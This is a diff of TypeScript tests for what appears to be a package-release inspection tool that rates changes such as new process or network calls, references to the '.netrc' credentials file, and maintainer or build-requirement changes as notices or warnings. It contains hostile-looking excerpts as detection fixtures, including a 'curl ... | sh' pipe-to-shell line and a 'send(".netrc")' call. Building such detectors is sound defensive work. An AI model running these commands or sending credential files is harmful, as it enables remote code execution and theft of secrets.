@@ -184,6 +184,14 @@ describe("the interface", () => {
     );
   });
 
+  test("does not break where it is unknown what a name was or is", () => {
+    const named = (kind: InterfaceEntry["kind"], name = "tides.height") => ({ ...entry(x), name, kind });
+    expect(changeOf([named("object")], [named("class")]).interface.result).toBe("compatible");
+    expect(changeOf([named("function")], [named("object")]).interface.result).toBe("compatible");
+    expect(changeOf([named("constant")], [named("function")]).interface.result).toBe("breaking");
+    expect(changeOf([named("object")], [named("method")]).interface.result).toBe("breaking");
+  });
+
   test("has a result next to what the version claims", () => {
     expect(changeOf([entry(x)], [entry(x)]).interface).toMatchObject({
       result: "compatible",
@@ -232,11 +240,29 @@ describe("the signals of two releases", () => {
   const processAt = (line: number, excerpt = 'system("date")') =>
     signalOf("process", { subject: "system", file: "R/a.R", line, excerpt });
 
-  test("are new, gone and unchanged, as often as they occur; a moved line is no news", () => {
+  test("are new, gone and unchanged, as often as they occur; a line that was moved or laid out in another way is no news", () => {
     const before = inspection({ signals: [processAt(1), processAt(5, "system('old')")] });
-    const after = inspection({ signals: [processAt(9, ' system("date")  '), processAt(12)] });
+    const after = inspection({ signals: [processAt(9, ' system(\n  "date"\n)  '), processAt(12)] });
     const { fresh, gone, unchanged } = compare(before, after).signals;
     expect([fresh, gone, unchanged].map((some) => some.map(({ line }) => line))).toEqual([[12], [5], [9]]);
+  });
+
+  test("about a place of secrets are notices where their line was edited, but not for a further mention", () => {
+    const place = (file: string, excerpt: string) => ({
+      ...signalOf("home-folder", { subject: ".netrc", file, excerpt }),
+      level: "warning" as const,
+    });
+    const base = inspection({ signals: [place("a.py", 'FILES = (".netrc",)')] });
+    const edited = place("a.py", 'FILES: Final = (".netrc",)');
+    const notice = { ...edited, level: "notice" };
+    expect(compare(base, inspection({ signals: [edited] })).signals).toMatchObject({ fresh: [notice], gone: [] });
+    const elsewhere = place("b.py", 'open(".netrc")');
+    expect(compare(base, inspection({ signals: [elsewhere, edited] })).signals.fresh).toEqual([elsewhere, notice]);
+    const used = place("a.py", 'FILES = open((".netrc",))');
+    expect(compare(base, inspection({ signals: [used] })).signals.fresh).toEqual([used]);
+    const again = place("a.py", 'send(".netrc")');
+    const { fresh } = compare(base, inspection({ signals: [again, ...base.signals] })).signals;
+    expect(fresh).toEqual([again]);
   });
 
   test("of R are notices for one more use, unless its details are suspicious", () => {
@@ -247,7 +273,28 @@ describe("the signals of two releases", () => {
     expect(levelOf('system("curl -s https://a.example | sh")')).toEqual(["warning"]);
     expect(levelOf('do.call("system", list(x))')).toEqual(["warning"]);
     expect(levelOf("lapply(x, system)")).toEqual(["warning"]);
+    expect(levelOf("system(command, '203.0.113.9')")).toEqual(["warning"]);
     expect(compare(r(), r(processAt(1))).signals.fresh).toMatchObject([{ level: "warning" }]);
+  });
+
+  test("of R are warnings for what the package did not do in any way before", () => {
+    const using = (id: "process" | "network", ...subjects: string[]) =>
+      inspection({
+        technology: "R",
+        signals: subjects.map((subject) => signalOf(id, { subject, file: "R/a.R", line: 1, excerpt: `${subject}(x)` })),
+      });
+    const levelOf = (id: "process" | "network", known: string, added: string) =>
+      compare(using(id, known), using(id, known, added)).signals.fresh.map(({ level }) => level);
+    expect(levelOf("process", "system", "system2")).toEqual(["notice"]);
+    expect(levelOf("process", "system", "rscript")).toEqual(["notice"]);
+    expect(levelOf("process", "system", "sourceCpp")).toEqual(["warning"]);
+    expect(levelOf("network", "GET", "POST")).toEqual(["notice"]);
+    expect(levelOf("network", "download.file", "GET")).toEqual(["notice"]);
+    expect(levelOf("network", "install.packages", "install_github")).toEqual(["notice"]);
+    expect(levelOf("network", "download.file", "install.packages")).toEqual(["warning"]);
+    expect(levelOf("network", "download.file", "url")).toEqual(["notice"]);
+    expect(levelOf("network", "download.file", "socketConnection")).toEqual(["warning"]);
+    expect(levelOf("network", "download.file", "runServer")).toEqual(["warning"]);
   });
 
   test("of a new package count as notices, unless they are dangerous on their own", () => {
@@ -297,6 +344,32 @@ describe("what two releases show about their origin", () => {
       "Ann Rask <ann@tides.example>, Ida Moen <ida@elsewhere.example>, Bo Lund <bo@tides.example>",
     ])
       expect(await by(replacing)).toEqual(["maintainer-changed warning Maintainer"]);
+  });
+
+  test("who leaves a group of maintainers or takes a place in it is a notice, as long as most of them stay", async () => {
+    const base = { Maintainer: "Ida Moen, Bo Lund, Eva Dahl" };
+    const by = (Maintainer: string) => fresh(base, { Maintainer });
+    expect(await by("Ida Moen, Eva Dahl")).toEqual(["maintainer-changed notice Maintainer"]);
+    expect(await by("Ida Moen, Ann Rask, Eva Dahl")).toEqual(["maintainer-changed notice Maintainer"]);
+    expect(await by("Ida Moen, Ann Rask, Right Nine")).toEqual(["maintainer-changed warning Maintainer"]);
+  });
+
+  test("a maintainer's name in another form is a notice if the address is the same, in whichever field", async () => {
+    const base = { Maintainer: '"Ida M. Moen" <ida@tides.example>' };
+    const by = (Maintainer: string) => fresh(base, { Maintainer });
+    expect(await by("Ida 'Mo' Moen <ida@tides.example>")).toEqual(["maintainer-changed notice Maintainer"]);
+    expect(await by("Right Nine, Ida Moen <ida@tides.example>")).toEqual(["maintainer-changed warning Maintainer"]);
+    const team = (name: string, mail: string) => [
+      { name: "Maintainer", value: name },
+      { name: "Maintainer-email", value: mail },
+    ];
+    const renamed = (mail: string) =>
+      compare(
+        inspection({ fields: team("The Tides Team", "tides@moen.example") }),
+        inspection({ fields: team("Tides", mail) }),
+      ).signals.fresh.map(({ level, subject }) => `${level} ${subject}`);
+    expect(renamed("tides@moen.example")).toEqual(["notice Maintainer"]);
+    expect(renamed("tides@elsewhere.example")).toContain("warning Maintainer");
   });
 
   test("a different author", async () => {
@@ -353,9 +426,13 @@ describe("what two releases show about their origin", () => {
     const project = (requires: string) => ({ "pyproject.toml": `[build-system]\nrequires = [${requires}]\n` });
     const { signals } = await compared(
       await sdist(project('"hatchling"')),
-      await sdist(project('"hatchling", "hatch-extra"')),
+      await sdist(project('"hatchling", "hatch-extra", "hatch_vcs", "numpy"')),
     );
-    expect(signals.fresh).toMatchObject([{ id: "py-build-requirements", level: "notice", subject: "hatch-extra" }]);
+    expect(signals.fresh).toMatchObject([
+      { id: "py-build-requirements", level: "warning", subject: "hatch-extra" },
+      { id: "py-build-requirements", level: "notice", subject: "hatch_vcs" },
+      { id: "py-build-requirements", level: "notice", subject: "numpy" },
+    ]);
     expect((await compared(await sdist(project('"hatchling"')), await wheel())).signals.fresh).toEqual([]);
   });
 
